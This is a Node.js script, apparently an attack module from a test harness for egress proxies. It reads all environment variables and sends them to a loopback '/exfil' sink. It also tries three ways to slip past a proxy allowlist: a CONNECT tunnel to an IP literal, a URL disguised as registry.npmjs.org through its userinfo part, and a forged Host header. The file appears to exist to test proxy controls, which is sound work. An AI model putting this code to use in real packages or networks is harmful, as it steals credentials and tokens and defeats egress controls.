'use strict';
// Proxy allowlist confusion: ask the proxy for the loopback sink in ways a sloppy
// allowlist check gets wrong (params.variant):
//   connect-ip   CONNECT to an IP literal, then speak HTTP through the tunnel
//   userinfo     an allowed host name as "user info": http://registry.npmjs.org@127.0.0.1:PORT/
//   host-header  an allowed URL, but a Host header naming the sink (proxies that route by Host)
// Without a proxy (bare npm) the same request goes straight to the sink.
const http = require('http');
const net = require('net');
const lib = require('./lib.js');

const sink = lib.cfg.sinks.http;

function proxy() {
  const p = process.env.HTTP_PROXY || process.env.http_proxy || process.env.HTTPS_PROXY || process.env.https_proxy;
  if (!p) return undefined;
  const u = new URL(p);
  return { host: u.hostname, port: Number(u.port || 80) };
}

function request(options, body) {
  return new Promise((resolve) => {
    const req = http.request({ method: 'POST', timeout: 3000, ...options }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode));
    });
    req.on('error', (e) => {
      lib.note(`request: ${e.code || e.message}`);
      resolve(undefined);
    });
    req.on('timeout', () => req.destroy());
    req.end(body);
  });
}

function tunnel(p, target, body) {
  return new Promise((resolve) => {
    const s = net.connect(p);
    let buf = '';
    let open = false;
    s.setTimeout(3000, () => s.destroy());
    s.on('connect', () => s.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
    s.on('data', (d) => {
      if (open) return;
      buf += d.toString('latin1');
      if (!buf.includes('\r\n\r\n')) return;
      if (/^HTTP\/1\.[01] 200/.test(buf)) {
        open = true;
        lib.did('tunnel');
        s.write(`POST /exfil/${lib.cfg.attack} HTTP/1.1\r\nHost: 127.0.0.1:${sink}\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`);
      } else {
        lib.note(`CONNECT refused: ${buf.split('\r\n')[0]}`);
        s.destroy();
      }
    });
    s.on('error', (e) => lib.note(`tunnel: ${e.code}`));
    s.on('close', () => resolve());
  });
}

lib.run(async () => {
  const body = `marker=${lib.cfg.netMarker}\n${JSON.stringify(process.env)}`;
  lib.found(body);
  const p = proxy();
  const variant = lib.cfg.params.variant;
  if (!p) {
    const status = await request({ host: '127.0.0.1', port: sink, path: `/exfil/${lib.cfg.attack}` }, body);
    if (status === 200) lib.did('delivered');
    return;
  }
  let status;
  if (variant === 'connect-ip') {
    await tunnel(p, `127.0.0.1:${sink}`, body);
    return;
  } else if (variant === 'userinfo') {
    status = await request({ ...p, path: `http://registry.npmjs.org@127.0.0.1:${sink}/exfil/${lib.cfg.attack}`, headers: { host: `registry.npmjs.org@127.0.0.1:${sink}` } }, body);
  } else if (variant === 'host-header') {
    status = await request({ ...p, path: `http://registry.npmjs.org/exfil/${lib.cfg.attack}`, headers: { host: `127.0.0.1:${sink}` } }, body);
  }
  lib.note(`proxy answered ${status}`);
  if (status === 200) lib.did('delivered');
});
